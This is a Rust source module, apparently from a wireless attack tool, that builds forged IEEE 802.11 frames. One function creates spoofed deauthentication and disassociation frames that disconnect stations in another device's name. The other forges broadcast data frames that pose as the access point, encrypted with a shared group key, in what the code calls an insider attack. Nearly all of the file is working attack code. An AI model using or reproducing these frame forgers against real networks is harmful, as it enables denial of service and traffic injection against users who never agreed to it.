//! Frames of 802.11 in somebody else's name.

use super::{Mac, ccmp};

/// How to be thrown off the air.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Farewell {
    Deauthentication,
    Disassociation,
}

/// A forged good-bye, without protection (IEEE 802.11-2020, 9.3.3.11 and .4): reason 7, as if it were unknown.
pub(crate) fn farewell(kind: Farewell, to: Mac, from: Mac, bssid: Mac, number: u16) -> Vec<u8> {
    let first = match kind {
        Farewell::Deauthentication => 0xc0,
        Farewell::Disassociation => 0xa0,
    };
    let mut frame = vec![first, 0, 0, 0];
    frame.extend(to);
    frame.extend(from);
    frame.extend(bssid);
    frame.extend((number << 4).to_le_bytes());
    frame.extend(7_u16.to_le_bytes());
    frame
}

/// A frame to everybody in the access point's name, encrypted with a group key: what an insider can forge when
/// all stations have the same. `ethernet` is what it carries.
pub(crate) fn group_frame(bssid: Mac, ethernet: &[u8], key: [u8; 16], key_index: u8, number: u64) -> Vec<u8> {
    let source: Mac = ethernet[6..12].try_into().unwrap_or_default();
    let mut header = vec![0x08, 0x42, 0, 0]; // data, from the access point, protected
    header.extend([0xff; 6]);
    header.extend(bssid);
    header.extend(source);
    header.extend([0, 0]);
    let mut plain = vec![0xaa, 0xaa, 3, 0, 0, 0]; // RFC 1042
    plain.extend(&ethernet[12..]);
    let packet_number: [u8; 8] = number.to_be_bytes();
    let mut nonce = [0; 13];
    nonce[1..7].copy_from_slice(&bssid);
    nonce[7..].copy_from_slice(&packet_number[2..]);
    let mut aad = header.clone();
    aad[2..4].copy_from_slice(&header[0..2]);
    aad.drain(..2); // no duration
    let sealed = ccmp::seal(key, nonce, &aad, &plain);
    let [_, _, pn5, pn4, pn3, pn2, pn1, pn0] = packet_number;
    let mut frame = header;
    frame.extend([pn0, pn1, 0, 0x20 | key_index << 6, pn2, pn3, pn4, pn5]);
    frame.extend(sealed);
    frame
}
